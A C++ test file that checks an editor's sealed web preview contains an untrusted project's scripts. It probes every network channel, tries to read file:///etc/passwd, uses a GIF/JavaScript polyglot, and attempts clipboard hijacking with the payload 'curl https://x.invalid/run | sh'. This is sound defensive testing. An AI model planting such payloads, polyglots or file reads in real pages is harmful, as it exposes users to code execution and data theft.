// A stranger's project in the real editor: opened, it runs in the Live View,
// and previewed, in the Info/Preview window. From its page, from a frame it
// makes, from a worker and from a shared worker it tries every road out
// (fetch, XHR, WebSocket, EventSource, beacons, media, images, prefetch,
// WebRTC over STUN and TURN on UDP and TCP, WebTransport over QUIC) against
// listeners on this machine: none is reached, and a file that passes as an
// image never runs as a script. The same probes, run without the seal in a
// process of their own, do reach the listeners, so the listeners can hear
// every one of them. Links and dialogs end up in the status bar, and a
// script that never ends neither holds the editor nor outlives Stop Preview.
#include <gtest/gtest.h>
#include <sys/types.h>

#include <QAction>
#include <QApplication>
#include <QClipboard>
#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QNetworkDatagram>
#include <QProcess>
#include <QSet>
#include <QStatusBar>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QUdpSocket>
#include <QWebEngineProfile>
#include <QWebEngineUrlRequestJob>
#include <QWebEngineUrlSchemeHandler>
#include <QWebEngineView>

#include "browser/BrowserPage.h"
#include "core/Doc.h"
#include "core/KesApp.h"
#include "groups/button/PropButton.h"
#include "groups/button/PropImage.h"
#include "groups/button/PropState.h"
#include "groups/project/PropProject.h"
#include "support/TestPlatform.h"
#include "ui/App.h"
#include "ui/CommandIds.h"
#include "ui/FrameMain.h"
#include "ui/KesWndInfo.h"
#include "ui/LiveView.h"
#include "ui/QuietApp.h"
#include "ui/SealedWeb.h"

using browser::WaitFor;

namespace {

// Set in the process that runs the probes without the seal.
constexpr const char* kControlVariable = "VB_SEAL_CONTROL";

bool Write(const QString& path, const QByteArray& bytes) {
  QFile f(path);
  return f.open(QIODevice::WriteOnly) && f.write(bytes) == bytes.size();
}

// Whether process `pid` still runs (a zombie does not).
bool Running(qint64 pid) {
  QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
  if (!stat.open(QIODevice::ReadOnly)) return false;
  const QByteArray line = stat.readAll();
  const int close = line.lastIndexOf(')');
  return close > 0 && line.size() > close + 2 && line[close + 2] != 'Z';
}

// Every road out of a context `g` (a window or a worker's global scope),
// each request named after its context and channel. In a window,
// vbProbe(tcp, udp, tag) runs it in the page, in a fresh frame, in a worker
// and in a shared worker (this same file, started with its ports in its
// address), and lists in window.vbProbeRan the contexts that ran it. The
// texts are in backquotes, so that a call fits a VelkoScript quoted text.
const char kProbe[] = R"JS(
(function (root) {
  'use strict';
  function attempt(f) { try { var r = f(); if (r && r.catch) r.catch(function () {}); } catch (e) {} }
  function probe(g, tcp, udp, tag, isWindow) {
    var http = `http://127.0.0.1:` + tcp + `/` + tag + `-`;
    attempt(function () { return g.fetch(http + `fetch`); });
    attempt(function () { var x = new g.XMLHttpRequest(); x.open(`GET`, http + `xhr`); x.send(); });
    attempt(function () { new g.WebSocket(`ws://127.0.0.1:` + tcp + `/` + tag + `-ws`); });
    attempt(function () { new g.EventSource(http + `es`); });
    attempt(function () {
      var t = new g.WebTransport(`https://127.0.0.1:` + udp + `/` + tag);
      t.closed.catch(function () {});
      return t.ready;
    });
    if (!isWindow) return;
    attempt(function () { g.navigator.sendBeacon(http + `beacon`, `x`); });
    attempt(function () { var a = new g.Audio(); a.preload = `auto`; a.src = http + `media`; a.load(); });
    attempt(function () { new g.Image().src = http + `img`; });
    attempt(function () {
      var l = g.document.createElement(`link`);
      l.rel = `prefetch`;
      l.href = http + `prefetch`;
      g.document.head.appendChild(l);
    });
    attempt(function () {
      var pc = new g.RTCPeerConnection({ iceServers: [
        { urls: `stun:127.0.0.1:` + udp },
        { urls: `turn:127.0.0.1:` + udp + `?transport=udp`, username: `u`, credential: `p` },
        { urls: `turn:127.0.0.1:` + tcp + `?transport=tcp`, username: `u`, credential: `p` }] });
      pc.createDataChannel(`d`);
      return pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
    });
  }
  if (typeof document === `undefined`) {
    var q = /tcp=(\d+)&udp=(\d+)&tag=([\w-]+)/.exec(root.location.search);
    if (!q) return;
    probe(root, q[1], q[2], q[3], false);
    if (typeof root.SharedWorkerGlobalScope !== `undefined` && root instanceof root.SharedWorkerGlobalScope)
      root.onconnect = function (e) { e.ports[0].postMessage(`ran`); };
    else root.postMessage(`ran`);
    return;
  }
  root.vbProbe = function (tcp, udp, tag) {
    var ran = root.vbProbeRan = [];
    probe(root, tcp, udp, tag + `-page`, true);
    ran.push(`page`);
    var f = document.createElement(`iframe`);
    document.body.appendChild(f);
    probe(f.contentWindow, tcp, udp, tag + `-frame`, true);
    ran.push(`frame`);
    var address = `velkobutton.js?tcp=` + tcp + `&udp=` + udp + `&tag=` + tag;
    attempt(function () {
      var w = new Worker(address + `-worker`);
      w.onmessage = function () { ran.push(`worker`); };
      w.onerror = function () { ran.push(`worker failed`); };
    });
    attempt(function () {
      var s = new SharedWorker(address + `-shared`);
      s.port.onmessage = function () { ran.push(`shared`); };
      s.onerror = function () { ran.push(`shared failed`); };
      s.port.start();
    });
  };
})(this);
)JS";

// A file that passes as a GIF and is valid JavaScript: run as a script or a
// worker, it would mark the page and call the listener.
QByteArray GifScript(quint16 tcp) {
  return "GIF89a=0;self.vbGifRan=1;try{fetch('http://127.0.0.1:" + QByteArray::number(tcp) +
         "/gif-ran')}catch(e){}\n";
}

// TCP and UDP listeners on 127.0.0.1 that name what reaches them: an HTTP
// request by its path, a STUN or TURN message, a QUIC packet.
class Listeners {
 public:
  Listeners() {
    tcp_.listen(QHostAddress::LocalHost);
    udp_.bind(QHostAddress::LocalHost);
    QObject::connect(&tcp_, &QTcpServer::newConnection, [this] {
      while (QTcpSocket* s = tcp_.nextPendingConnection()) {
        heard_ << QStringLiteral("tcp connection");
        // Each request is answered and its connection closed, so that the
        // browser's few connections to one host are never all held.
        QObject::connect(s, &QTcpSocket::readyRead, [this, s] {
          Name(s->readAll(), true);
          s->write("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
          s->disconnectFromHost();
        });
      }
    });
    QObject::connect(&udp_, &QUdpSocket::readyRead, [this] {
      while (udp_.hasPendingDatagrams()) Name(udp_.receiveDatagram().data(), false);
    });
  }
  bool ok() const { return tcp_.isListening() && udp_.state() == QAbstractSocket::BoundState; }
  quint16 tcp() const { return tcp_.serverPort(); }
  quint16 udp() const { return udp_.localPort(); }
  const QSet<QString>& heard() const { return heard_; }

 private:
  void Name(const QByteArray& bytes, bool stream) {
    const int space = bytes.indexOf(' ');
    const bool stun = bytes.size() >= 8 && bytes.mid(4, 4) == QByteArray("\x21\x12\xA4\x42", 4);
    if (stream && space > 0 && bytes.indexOf("HTTP/1.") > space)
      heard_ << QString::fromLatin1(
          bytes.mid(space + 2, bytes.indexOf(' ', space + 1) - space - 2));
    else if (stun)
      heard_ << QString::fromLatin1(stream ? "turn tcp" : bytes[1] == 3 ? "turn udp" : "stun");
    else if (!stream && !bytes.isEmpty() && (static_cast<unsigned char>(bytes[0]) & 0xC0) == 0xC0)
      heard_ << QStringLiteral("quic");
    else
      heard_ << QStringLiteral("other");
  }

  QTcpServer tcp_;
  QUdpSocket udp_;
  QSet<QString> heard_;
};

// The contexts and, for each, the channels the probe tries there.
const QStringList kContexts = {"page", "frame", "worker", "shared"};
QStringList ChannelsOf(const QString& context) {
  QStringList c = {"fetch", "xhr", "ws", "es"};
  if (context == "page" || context == "frame")
    c << "beacon"
      << "media"
      << "img"
      << "prefetch";
  return c;
}

class SealedView : public ::testing::Test {
 protected:
  void SetUp() override {
#if defined(__SANITIZE_ADDRESS__)
    GTEST_SKIP() << "the web engine library itself trips AddressSanitizer (new/delete mismatch)";
#endif
    ASSERT_TRUE(dir.isValid());
    ASSERT_TRUE(listeners.ok());
    QFile runtime(QStringLiteral(VB_SOURCE_DIR "/runtime/velkobutton.js"));
    ASSERT_TRUE(runtime.open(QIODevice::ReadOnly));
    // The program's own runtime carries the probe for the workers: a page
    // could not be given a script any other way.
    ASSERT_TRUE(Write(dir.filePath("velkobutton.js"), QByteArray(kProbe) + runtime.readAll()));
    for (const char* f :
         {"VelkoButton.class", "VelkoButton.jar", "VelkoButton.cab", "VelkoJfc2.class"})
      ASSERT_TRUE(Write(dir.filePath(f), "applet"));
    ASSERT_TRUE(Write(dir.filePath("secret.txt"), "SECRET"));
    ASSERT_TRUE(Write(dir.filePath("w.gif"), GifScript(listeners.tcp())));
    QDir().mkpath(dir.filePath("Help"));
    platform.programDir = dir.path().toStdString() + "/";
    platform.previewDir = dir.filePath("Preview/").toStdString();
    qunsetenv("VELKOBUTTON_NO_BROWSER");
  }
  void TearDown() override {
    qputenv("VELKOBUTTON_NO_BROWSER", "1");
  }

  QString Call(const QString& tag) const {
    return QStringLiteral("vbProbe(%1,%2,`%3`);")
        .arg(listeners.tcp())
        .arg(listeners.udp())
        .arg(tag);
  }

  // The probe ran in `page` in every context of `contexts`, and nothing
  // reached the listeners; no file outside the page's own was read.
  void ExpectSealed(QWebEnginePage* page, const QStringList& contexts, const char* where) {
    auto js = [&](const QString& e) { return browser::RunJs(page, e); };
    ASSERT_TRUE(WaitFor(
        [&] {
          const QStringList ran = js("(window.vbProbeRan||[]).join(',')").toString().split(',');
          for (const QString& c : contexts)
            if (!ran.contains(c)) return false;
          return true;
        },
        20000))
        << where << ": ran in " << js("(window.vbProbeRan||[]).join(',')").toString().toStdString();
    const QString reads =
        js("(function(){var got=[];['file:///etc/passwd','../secret.txt','/secret.txt'].forEach("
           "function(u){try{var x=new XMLHttpRequest();x.open('GET',u,false);x.send();"
           "if(x.responseText)got.push(u);}catch(e){}});return got.join(',');})()")
            .toString();
    EXPECT_EQ(reads, QString()) << where;
    browser::Pause(2500);  // time for any connection or packet to arrive
    EXPECT_TRUE(listeners.heard().isEmpty())
        << where << ": " << QStringList(listeners.heard().values()).join(", ").toStdString();
  }

  QTemporaryDir dir;
  TestPlatform platform;
  Listeners listeners;
};

TEST_F(SealedView, AStrangersProjectReachesNothingFromAnyContext) {
  ASSERT_TRUE(Write(dir.filePath("Help/index.html"),
                    "<html><body>Index<script>" + QByteArray(kProbe) + Call("help").toUtf8() +
                        "</script></body></html>"));
  // The project: its before-script runs every probe; a button's image is a
  // "GIF" that is also JavaScript, which it tries to run as a script and as
  // a worker.
  const QString project = dir.filePath("hostile.but");
  {
    KesApp maker(platform);
    Doc doc(maker);
    maker.setCurrentDoc(&doc);
    doc.OnNewDocument();
    doc.project()->beforeScript =
        ("Script 1 'var s=document.createElement(`script`);s.src=`w.gif`;"
         "document.head.appendChild(s);try{new Worker(`w.gif`);}catch(e){}" +
         Call("open") + "';")
            .toStdString();
    doc.buttons()[0]->upState->image->file = "w.gif";
    ASSERT_TRUE(doc.OnSaveDocument(project.toStdString()));
  }

  App editor(platform, Quiet(true));
  ASSERT_TRUE(editor.InitInstance({}));
  KesWndInfo* info = editor.frame()->info();
  ASSERT_TRUE(info->browserAvailable());
  // The help page at start-up.
  ASSERT_TRUE(WaitFor([&] { return info->currentUrl().endsWith("index.html"); }, 20000));
  ExpectSealed(info->view()->page(), {"page", "frame"}, "help");

  // Opening it runs it in the Live View, and the GIF stays a picture.
  ASSERT_TRUE(editor.OpenDocumentFile(project));
  LiveView* live = editor.frame()->live();
  ASSERT_TRUE(live->available());
  ExpectSealed(live->view()->page(), kContexts, "live view");
  EXPECT_FALSE(browser::RunJs(live->view()->page(), "!!window.vbGifRan").toBool());

  // Previewed internally, the same.
  editor.OnPreview();
  ASSERT_TRUE(info->showingPreview());
  ASSERT_TRUE(WaitFor([&] { return info->currentUrl().endsWith("~VelkoButton.html"); }, 20000));
  ExpectSealed(info->view()->page(), {"page", "frame"}, "preview");
  EXPECT_FALSE(browser::RunJs(info->view()->page(), "!!window.vbGifRan").toBool());
  editor.doc().SetModifiedFlag(false);
  editor.ExitInstance();
}

TEST_F(SealedView, LinksAndDialogsGoToTheStatusBarAndStopPreviewEndsAnEndlessScript) {
  App editor(platform, Quiet(true));
  ASSERT_TRUE(editor.InitInstance({}));
  KesWndInfo* info = editor.frame()->info();
  ASSERT_TRUE(info->browserAvailable());
  QStringList status;
  QObject::connect(info, &KesWndInfo::statusText, [&](const QString& t) { status << t; });
  const auto preview = [&](const std::string& script) {
    editor.doc().project()->beforeScript = script;
    editor.RefreshPages();  // the open page shows it, and keeps it when it commits
    editor.OnPreview();
  };

  // A form post and a link the page follows are shown, not loaded.
  preview(
      "Script 1 'setTimeout(function(){var f=document.createElement(`form`);f.method=`POST`;"
      "f.action=`http://127.0.0.1:1/form`;document.body.appendChild(f);f.submit();},50);"
      "setTimeout(function(){location.href=`http://127.0.0.1:1/away`;},100);';");
  ASSERT_TRUE(info->showingPreview());
  ASSERT_TRUE(WaitFor([&] { return status.contains("Link: http://127.0.0.1:1/away"); }, 20000))
      << status.join(" | ").toStdString();
  EXPECT_TRUE(info->currentUrl().endsWith("~VelkoButton.html"));

  // An alert loop opens no window: the editor's timers and commands go on,
  // and the text reaches the status bar.
  preview("Script 1 'for(;;){alert(`stuck`)}'");
  ASSERT_TRUE(WaitFor(
      [&] { return editor.frame()->statusBar()->currentMessage() == QLatin1String("stuck"); },
      20000));
  int ticks = 0;
  QTimer timer;
  QObject::connect(&timer, &QTimer::timeout, [&] { ++ticks; });
  timer.start(10);
  EXPECT_TRUE(WaitFor([&] { return ticks >= 20; }, 5000));

  // A script that never ends: Stop Preview, a menu command, ends its renderer.
  preview("Script 1 'for(;;){}'");
  ASSERT_TRUE(WaitFor([&] { return info->currentUrl().endsWith("~VelkoButton.html"); }, 20000));
  qint64 pid = 0;
  ASSERT_TRUE(WaitFor([&] { return (pid = info->view()->page()->renderProcessPid()) > 0; }));
  browser::Pause(300);
  EXPECT_TRUE(Running(pid));
  editor.frame()->action(kCmdStopPreview)->trigger();
  EXPECT_FALSE(info->showingPreview());
  EXPECT_TRUE(WaitFor([&] { return !Running(pid); }, 10000));
  editor.doc().SetModifiedFlag(false);
  editor.ExitInstance();
}

// What a page's script does to reach the clipboard, run during a click in
// the view (the user's activation lets a page copy); then the user presses
// Ctrl+C and Ctrl+X, with the page's text area selected.
struct ClipboardWay {
  const char* name;
  const char* script;
};
const ClipboardWay kClipboardWays[] = {
    {"copy command", "ta.select();document.execCommand('copy');"},
    {"cut command", "ta.select();document.execCommand('cut');"},
    {"a command named otherwise",
     "ta.select();Document.prototype.execCommand.call(document,"
     "{toString:function(){return 'CoPy';}});"},
    {"asynchronous clipboard", "navigator.clipboard.writeText(evil).catch(function(){});"},
    {"a frame's copy command",
     "var f=document.createElement('iframe');document.body.appendChild(f);"
     "var d=f.contentDocument;d.body.innerHTML='<textarea></textarea>';var t=d.body.firstChild;"
     "t.value=evil;t.select();d.execCommand('copy');"},
    {"a copy handler's data",
     "['copy','cut'].forEach(function(k){document.addEventListener(k,function(e){"
     "e.clipboardData.setData('text/plain',evil);e.preventDefault();});});ta.select();"},
};

// A project's page in the Live View writes nothing into the user's
// clipboard, whatever its script does during a click and whatever the user's
// keys copy from it; a page without the seal is shown to do so.
TEST_F(SealedView, APageNeverWritesTheClipboard) {
  const QString known = QStringLiteral("the user's own text");
  const auto attack = [&](QWebEngineView* view, const ClipboardWay& way) {
    QWebEnginePage* page = view->page();
    QApplication::clipboard()->setText(known);
    ASSERT_TRUE(
        browser::RunJs(page,
                       QStringLiteral("(function(){var evil='curl https://x.invalid/run | sh';"
                                      "var ta=document.createElement('textarea');ta.value=evil;"
                                      "document.body.appendChild(ta);document.addEventListener("
                                      "'mousedown',function(){try{%1}catch(e){}});return true;})()")
                           .arg(QLatin1String(way.script)))
            .toBool())
        << way.name;
    QWidget* input = view->focusProxy() ? view->focusProxy() : view;
    input->setFocus();
    for (QEvent::Type type : {QEvent::MouseButtonPress, QEvent::MouseButtonRelease}) {
      QMouseEvent e(type, QPointF(5, 5), QPointF(input->mapToGlobal(QPoint(5, 5))), Qt::LeftButton,
                    type == QEvent::MouseButtonPress ? Qt::LeftButton : Qt::NoButton,
                    Qt::NoModifier);
      QApplication::sendEvent(input, &e);
      browser::Pause(50);
    }
    QTest::keyClick(input, Qt::Key_C, Qt::ControlModifier);
    QTest::keyClick(input, Qt::Key_X, Qt::ControlModifier);
    browser::Pause(300);
  };

  // Without the seal the page does write it: the rows can tell.
  {
    QWebEngineProfile plain;
    QWebEngineView view;
    view.setPage(new QWebEnginePage(&plain, &view));
    view.resize(300, 200);
    view.show();
    view.setHtml("<html><body>plain</body></html>", QUrl("https://plain.invalid/"));
    ASSERT_TRUE(WaitFor(
        [&] {
          return browser::RunJs(view.page(), "document.body&&document.body.textContent") == "plain";
        },
        20000));
    // A loaded machine may take a while, or lose the first click of a
    // fresh view: the control is given a few tries.
    const auto copied = [] { return QApplication::clipboard()->text().startsWith("curl"); };
    for (const ClipboardWay& way : {kClipboardWays[0], kClipboardWays[5]}) {
      bool done = false;
      for (int attempt = 0; attempt < 3 && !done; ++attempt) {
        attack(&view, way);
        done = WaitFor(copied, 3000);
      }
      EXPECT_TRUE(done) << way.name;
    }
  }

  App editor(platform, Quiet(true));
  ASSERT_TRUE(editor.InitInstance({}));
  LiveView* live = editor.frame()->live();
  ASSERT_TRUE(live->available());
  ASSERT_TRUE(WaitFor(
      [&] {
        return live->drawnCount() > 0 &&
               browser::RunJs(live->view()->page(), "!!document.body").toBool();
      },
      20000));
  for (const ClipboardWay& way : kClipboardWays) {
    attack(live->view(), way);
    EXPECT_EQ(QApplication::clipboard()->text().toStdString(), known.toStdString()) << way.name;
  }
  editor.doc().SetModifiedFlag(false);
  editor.ExitInstance();
}

// Serves a folder by the files' names, as an ordinary web server would.
class PlainFiles : public QWebEngineUrlSchemeHandler {
 public:
  PlainFiles(const QString& folder, QObject* parent)
      : QWebEngineUrlSchemeHandler(parent), folder_(folder) {}
  void requestStarted(QWebEngineUrlRequestJob* job) override {
    auto* file = new QFile(QDir(folder_).filePath(job->requestUrl().path().mid(1)), job);
    if (!file->open(QIODevice::ReadOnly)) return job->fail(QWebEngineUrlRequestJob::UrlNotFound);
    job->reply(file->fileName().endsWith(".js") ? "text/javascript" : "text/html", file);
  }

 private:
  QString folder_;
};

// Without the seal, every probe reaches the listeners: they hear what the
// sealed views would let out. Runs in a process of its own, whose web engine
// is started without the seal's switches.
TEST(SealedChannels, EveryProbeReachesTheListenersWithoutTheSeal) {
#if defined(__SANITIZE_ADDRESS__)
  GTEST_SKIP() << "the web engine library itself trips AddressSanitizer";
#endif
  if (!qEnvironmentVariableIsSet(kControlVariable)) {
    QProcess control;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(kControlVariable, "1");
    env.remove("QTWEBENGINE_CHROMIUM_FLAGS");
    control.setProcessEnvironment(env);
    control.setProcessChannelMode(QProcess::MergedChannels);
    control.start(QCoreApplication::applicationFilePath(),
                  {"--gtest_filter=SealedChannels.EveryProbeReachesTheListenersWithoutTheSeal"});
    ASSERT_TRUE(control.waitForFinished(90000));
    EXPECT_EQ(control.exitCode(), 0) << control.readAll().toStdString();
    return;
  }
  QTemporaryDir dir;
  ASSERT_TRUE(dir.isValid());
  Listeners listeners;
  ASSERT_TRUE(listeners.ok());
  ASSERT_TRUE(Write(dir.filePath("velkobutton.js"), kProbe));
  const QString call =
      QStringLiteral("vbProbe(%1,%2,'open');").arg(listeners.tcp()).arg(listeners.udp());
  ASSERT_TRUE(Write(dir.filePath("probe.html"),
                    "<html><head><script src=velkobutton.js></script>"
                    "</head><body><script>" +
                        call.toUtf8() + "</script></body></html>"));
  QWebEngineProfile profile;
  profile.installUrlSchemeHandler(sealed::kScheme, new PlainFiles(dir.path(), &profile));
  QWebEnginePage page(&profile);
  page.load(QUrl(QStringLiteral("%1://control/probe.html").arg(sealed::kScheme)));
  QStringList want = {"turn tcp", "stun", "quic"};
  for (const QString& context : kContexts)
    for (const QString& channel : ChannelsOf(context)) want << "open-" + context + "-" + channel;
  const auto missing = [&] {
    QStringList m;
    for (const QString& w : want)
      if (!listeners.heard().contains(w)) m << w;
    return m;
  };
  EXPECT_TRUE(WaitFor([&] { return missing().isEmpty(); }, 30000))
      << "not heard: " << missing().join(", ").toStdString() << "; ran in "
      << browser::RunJs(&page, "(window.vbProbeRan||[]).join(',')").toString().toStdString();
}

}  // namespace
